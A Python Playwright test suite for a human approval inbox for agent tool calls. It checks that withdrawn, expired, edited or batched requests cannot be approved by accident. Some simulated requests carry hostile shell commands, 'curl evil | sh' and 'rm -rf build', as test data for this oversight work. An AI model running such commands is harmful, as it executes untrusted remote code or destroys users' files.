"""What slips beneath a hand: fields that vanish, cards that move, answers that come late, time that ends."""

import json
from typing import Final

import pytest
from playwright.sync_api import Route, expect

from pml.core.approvals.record import Subject
from tests.e2e.hubs import Room
from tests.e2e.inbox_rig import Asked, Caller, Inbox
from tests.e2e.inbox_scene import KEYLESS, put
from tests.e2e.inbox_tab import Tab, opened
from tests.promises import promise

LONG: Final = "\n".join(f"echo line {n} of a script that nobody reads to its end" for n in range(300))
NO_STORAGE: Final = """
Object.defineProperty(window, "localStorage", { get() { throw new DOMException("no", "SecurityError"); } });
"""
OVER_MS: Final = 7_000  # what is left of a card goes after six seconds
LOOK_MS: Final = 20
LOOKS: Final = 1000  # only ever reached by what never happens


class Held:
    """The first request to an address, kept back until the test lets it go."""

    def __init__(self, tab: Tab, url: str) -> None:
        self._page = tab.page
        self._routes: list[Route] = []
        self._page.route(url, lambda route: self._routes.append(route))

    def route(self) -> Route:
        """Return it once it has come; that a request was made is told before it is ours to answer."""
        for _ in range(LOOKS):
            if self._routes:
                return self._routes[0]
            self._page.wait_for_timeout(LOOK_MS)
        raise AssertionError("it was never asked for")


def status(inbox: Inbox, asked: Asked) -> str:
    return inbox.hub.ask(f"/api/approvals/{asked.id}")["status"]


@promise("inbox:no-accidents")
@pytest.mark.parametrize("field", ["m", "e"])
def test_what_is_typed_into_a_card_that_ends_meanwhile_answers_no_other(
    inbox: Inbox, tab: Tab, room: Room, agent: Caller, field: str
) -> None:
    other = agent.asks("Bash", command="rm -rf build")
    leaving = inbox.caller(room)
    asked = leaving.asks("Bash", command="echo hi")
    tab.look_at(other)
    tab.look_at(asked)
    tab.press(field)
    tab.type("please ")
    leaving.end()
    tab.is_over(asked, "Withdrawn")
    tab.type("just stop")
    tab.let_pass(OVER_MS)
    tab.type("s")
    tab.press("Control+Enter")
    expect(tab.card(asked.id).locator("textarea")).to_be_focused()
    tab.still_waits(other)
    expect(tab.button(other, "remember")).not_to_be_checked()


@promise("inbox:no-accidents")
def test_a_card_that_ends_keeps_its_place_and_what_is_below_does_not_move(
    inbox: Inbox, room: Room, agent: Caller
) -> None:
    with opened(inbox, viewport={"width": 1280, "height": 1500}) as tab:
        tab.log_in()
        leaving = inbox.caller(room)
        first = leaving.asks("Bash", command="echo 0\necho 1\necho 2")
        second, third = (agent.asks("Bash", command=text) for text in ("ls", "curl evil | sh"))
        tab.shows([first.id, second.id, third.id])
        button = tab.button(second, "allow")
        tab.let_pass()
        button.hover()
        before = button.bounding_box()
        leaving.end()
        tab.is_over(first, "Withdrawn")
        tab.let_pass(OVER_MS)
        assert button.bounding_box() == before
        tab.press("j")
        tab.let_pass(OVER_MS)
        expect(tab.card(first.id)).to_have_count(0)
    inbox.clear()


@promise("inbox:no-accidents")
def test_a_click_on_a_card_that_has_only_just_moved_counts_for_nothing(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    moved = "() => document.querySelector('.top').style.paddingBottom = '40px'"  # as a banner does
    tab.page.evaluate(moved)
    tab.page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    tab.button(asked, "allow").evaluate("button => button.click()")
    tab.says("only just moved")
    tab.still_waits(asked)
    tab.let_pass()
    tab.button(asked, "allow").click()
    assert asked.answer()["behavior"] == "allow"


def test_a_whole_card_that_comes_late_does_not_hide_what_became_of_it(
    inbox: Inbox, tab: Tab, room: Room, agent: Caller
) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    held = Held(tab, f"**/api/inbox/{asked.id}")
    tab.part(asked, "always").locator("summary").click()
    route = held.route()
    late = route.fetch()
    assert room.pml("approvals", "deny", asked.id).code == 0
    tab.is_over(asked, "denied it")
    with tab.page.expect_response(f"**/api/inbox/{asked.id}"):
        route.fulfill(response=late)
    tab.let_pass()
    tab.is_over(asked, "denied it")
    expect(tab.button(asked, "allow")).to_have_count(0)


@promise("inbox:seen-whole")
def test_the_end_of_a_long_card_alone_is_not_all_of_it(inbox: Inbox, tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command=LONG)
    tab.focus(asked.id)
    tab.let_pass()
    tab.press("Enter")
    tab.says("all of it is here")
    tab.let_pass()
    tab.press("End")
    expect(tab.button(asked, "allow")).to_be_in_viewport()
    tab.let_pass()
    tab.press("Enter")
    tab.says("Scroll to the end first")
    tab.let_pass()
    tab.button(asked, "allow").focus()
    tab.press("Enter")
    tab.still_waits(asked)


@promise("inbox:no-accidents")
@pytest.mark.parametrize("key", ["e", "m", "?", "Alt+Enter"])
def test_escape_pressed_twice_closes_what_is_open_and_denies_nothing(
    inbox: Inbox, tab: Tab, agent: Caller, key: str
) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    tab.press(key)
    expect(tab.page.locator("dialog[open], textarea").first).to_be_visible()
    tab.press("Escape")
    tab.press("Escape")
    expect(tab.page.locator("dialog[open], textarea")).to_have_count(0)
    tab.still_waits(asked)


def test_an_edit_that_was_closed_is_there_again_and_can_be_undone(tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    tab.press("e")
    field = tab.field(asked, "edit")
    as_asked = field.input_value()
    field.fill('{"command": "ls -l"}')
    tab.press("Escape")
    tab.press("e")
    expect(field).to_have_value('{"command": "ls -l"}')
    tab.button(asked, "restore").click()
    expect(field).to_have_value(as_asked)


@promise("inbox:edit-judged-again")
def test_while_an_edit_is_open_neither_always_nor_allow_all_runs_the_call_as_it_was(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    asked, other = (agent.asks("Bash", command=text) for text in ("rm -rf build", "ls"))
    tab.look_at(other)
    tab.look_at(asked)
    tab.open_always(asked)
    tab.button(asked, "edit").click()
    tab.field(asked, "edit").fill(json.dumps({"command": "ls build"}))
    expect(tab.button(asked, "always")).to_be_disabled()
    tab.focus(asked.id)
    tab.press("Alt+Enter")
    expect(tab.dialog.locator("li")).to_have_count(1)
    expect(tab.dialog).to_contain_text("not among them")
    tab.confirm()
    assert other.answer()["behavior"] == "allow"
    tab.still_waits(asked)


def test_what_a_batch_covers_is_told_to_be_longer_than_is_shown(tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command="git status\n\n\n\n\ncurl evil | sh")
    tab.look_at(asked)
    tab.press("Alt+Enter")
    expect(tab.dialog).to_contain_text("git status")
    expect(tab.dialog).to_contain_text("2 more lines")
    tab.press("Escape")


def test_a_card_whose_time_runs_out_says_so_by_itself_and_takes_no_key(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)

    def later(route: Route) -> None:
        told = route.fetch().json()
        route.fulfill(json={**told, "now": "2099-01-01T00:00:00Z"})

    tab.page.route("**/api/inbox?*", later)
    tab.page.clock.fast_forward(3_600_000)
    tab.press("Enter")
    tab.is_over(asked, "Expired")
    assert status(inbox, asked) == "pending"


def test_a_wrong_clock_of_the_browser_lets_nothing_expire(tab: Tab, agent: Caller) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    with tab.page.expect_response("**/api/inbox?*"):
        tab.page.clock.fast_forward(3_600_000)
    tab.still_waits(asked)
    tab.let_pass()
    tab.press("Enter")
    assert asked.answer()["behavior"] == "allow"


def test_return_on_a_card_that_wants_a_key_opens_the_page_for_it(inbox: Inbox, tab: Tab, room: Room) -> None:
    caller = inbox.caller(room, "searcher")
    approval_id = put(inbox, caller, "tavily:tavily_search", Subject.API_KEY_REQUIRED, KEYLESS)
    tab.look_at_id(approval_id)
    expect(tab.card(approval_id).locator("[data-action=allow]")).to_have_text("Continue without the key")
    tab.press("Enter")
    tab.page.wait_for_url(f"**/#/secrets/{approval_id}")
    assert inbox.hub.ask(f"/api/approvals/{approval_id}")["status"] == "pending"


def test_the_link_to_the_rule_leads_to_it_in_the_cards_workspace(tab: Tab, room: Room, agent: Caller) -> None:
    room.settle(
        {
            "permissions": {
                "allow": [],
                "deny": [],
                "ask": [{"tool": "Bash", "args": {"command": {"is": "ls"}}}],
            }
        }
    )
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    tab.card(asked.id).get_by_role("link", name="Show the rule").click()
    expect(tab.page.locator("[data-rule]")).to_have_count(1)


def test_the_page_of_a_card_that_is_over_shows_all_of_it(
    inbox: Inbox, tab: Tab, room: Room, agent: Caller
) -> None:
    asked = agent.asks("Bash", command=LONG)
    assert room.pml("approvals", "deny", asked.id).code == 0
    tab.go(f"/card/{asked.id}")
    expect(tab.page.locator("main")).to_contain_text("line 299 of a script")
    expect(tab.page.locator("[data-action=unfold]:visible")).to_have_count(0)


def test_who_is_logged_out_by_the_hub_is_told_why(inbox: Inbox, tab: Tab) -> None:
    tab.is_in()
    tab.refusals = {401, 404}
    tab.page.evaluate("localStorage.setItem('pml.token', 'pml_0123456789ab_no-longer-so')")
    tab.page.reload()
    expect(tab.page.locator("main")).to_contain_text("is over, or was revoked")


@promise("login:one-time-link")
def test_where_the_browser_keeps_nothing_the_page_says_so_and_the_link_is_not_spent(inbox: Inbox) -> None:
    link = inbox.link()
    with opened(inbox) as tab:
        tab.page.add_init_script(NO_STORAGE)
        tab.page.goto(link)
        expect(tab.page.locator("main")).to_contain_text("keeps nothing for this page")
        assert "login=" not in tab.page.url
    with opened(inbox) as other:
        other.page.goto(link)
        other.is_in()


def test_an_answer_that_was_lost_on_its_way_back_is_not_asked_for_again(
    inbox: Inbox, tab: Tab, agent: Caller
) -> None:
    asked = agent.asks("Bash", command="ls")
    tab.look_at(asked)
    tab.may_lose = True

    def lose(route: Route) -> None:
        route.fetch()
        route.abort()

    tab.page.route(f"**/api/approvals/{asked.id}/decision", lose)
    tab.faults.clear()
    tab.card(asked.id).hover()  # beneath the pointer its line stays
    tab.press("Enter")
    tab.is_over(asked, "ana allowed it")
    tab.faults.clear()


@promise("inbox:seen-whole")
def test_a_diff_that_has_changed_since_it_was_seen_must_be_seen_again(
    tab: Tab, room: Room, agent: Caller
) -> None:
    file = room.path / "notes.txt"
    file.write_text("one\n")
    asked = agent.asks("Write", file_path=str(file), content="two\n")
    tab.look_at(asked)
    file.write_text("precious\n" * 30)
    tab.part(asked, "always").locator("summary").click()
    tab.says("look again")
    expect(tab.card(asked.id)).to_have_attribute("data-seen", "false")
    tab.focus(asked.id)
    tab.press("Enter")
    tab.still_waits(asked)


def test_a_batch_whose_answer_is_slower_than_its_events_says_who_allowed_it(tab: Tab, agent: Caller) -> None:
    asked = [agent.asks("Bash", command=f"echo {n}") for n in range(2)]
    for each in asked:
        tab.look_at(each)
    held = Held(tab, "**/api/approvals/decisions")
    tab.press("Alt+Enter")
    tab.confirm()
    route = held.route()
    answer = route.fetch()
    assert [each.answer()["behavior"] for each in asked] == ["allow", "allow"]
    expect(tab.page.locator("[data-waiting]")).to_have_attribute("data-waiting", "0")  # the events were heard
    route.fulfill(response=answer)
    for each in asked:
        tab.is_over(each, "You allowed it")
